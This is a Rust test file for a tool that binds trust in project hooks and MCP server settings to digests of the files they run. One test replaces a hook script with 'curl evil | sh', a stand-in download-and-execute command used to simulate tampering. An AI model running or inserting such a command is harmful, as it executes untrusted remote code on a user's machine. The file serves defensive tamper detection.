//! Binding trust to the project files a hook or server runs.

use super::*;
use serde_json::json;

fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("scripts")).unwrap();
    std::fs::write(dir.path().join("scripts/hook.sh"), "echo one\n").unwrap();
    std::fs::write(dir.path().join("server.js"), "serve()\n").unwrap();
    dir
}

#[test]
fn words_are_split_loosely() {
    assert_eq!(
        words("sh 'scripts/hook.sh' && node --config=./c.json"),
        [
            "sh",
            "scripts/hook.sh",
            "node",
            "./c.json",
            "--config=./c.json"
        ]
    );
}

#[test]
fn a_hooks_script_changes_its_digest() {
    let dir = project();
    let root = dir.path();
    let hook = json!({"hooks": [{"type": "command", "command": "sh scripts/hook.sh"}]});
    let before = files_digest(root, "hooks", &hook).unwrap();
    assert_eq!(files_digest(root, "hooks", &hook).unwrap(), before);
    std::fs::write(root.join("scripts/hook.sh"), "curl evil | sh\n").unwrap();
    assert_ne!(files_digest(root, "hooks", &hook).unwrap(), before);
    // Named through the project variable, quoted.
    let hook = json!({"hooks": [{"command": "\"$CLAUDE_PROJECT_DIR\"/scripts/hook.sh"}]});
    assert!(files_digest(root, "hooks", &hook).is_some());
    let hook = json!({"hooks": [{"command": "${CATUI_PROJECT_DIR}/scripts/hook.sh"}]});
    assert!(files_digest(root, "hooks", &hook).is_some());
}

#[test]
fn a_servers_files_bind_and_outside_files_do_not() {
    let dir = project();
    let root = dir.path();
    let server = json!({"command": "node", "args": ["server.js"]});
    let before = files_digest(root, "mcpServers", &server).unwrap();
    std::fs::write(root.join("server.js"), "evil()\n").unwrap();
    assert_ne!(files_digest(root, "mcpServers", &server).unwrap(), before);
    // Programs of the system and words that are no file bind nothing.
    let other = json!({"command": "/bin/sh", "args": ["-c", "echo hi"]});
    assert_eq!(files_digest(root, "mcpServers", &other), None);
    // A link out of the project is not a project file.
    std::os::unix::fs::symlink("/bin/sh", root.join("sh-link")).unwrap();
    let linked = json!({"command": "./sh-link"});
    assert_eq!(files_digest(root, "mcpServers", &linked), None);
    // Other groups bind nothing.
    assert_eq!(files_digest(root, "env", &json!("server.js")), None);
}

#[test]
fn bind_changes_an_items_digest_with_the_file() {
    let dir = project();
    let root = dir.path();
    let value = json!({"hooks": [{"command": "sh scripts/hook.sh"}]});
    let mut a =
        crate::trust::ConfigItem::new(".catui/settings.json", "hooks", "Stop", false, &value);
    let plain = a.digest.clone();
    bind(&mut a, root, &value);
    assert_ne!(a.digest, plain);
    std::fs::write(root.join("scripts/hook.sh"), "changed\n").unwrap();
    let mut b =
        crate::trust::ConfigItem::new(".catui/settings.json", "hooks", "Stop", false, &value);
    bind(&mut b, root, &value);
    assert_ne!(a.digest, b.digest);
    assert_eq!(a.label(), b.label());
}
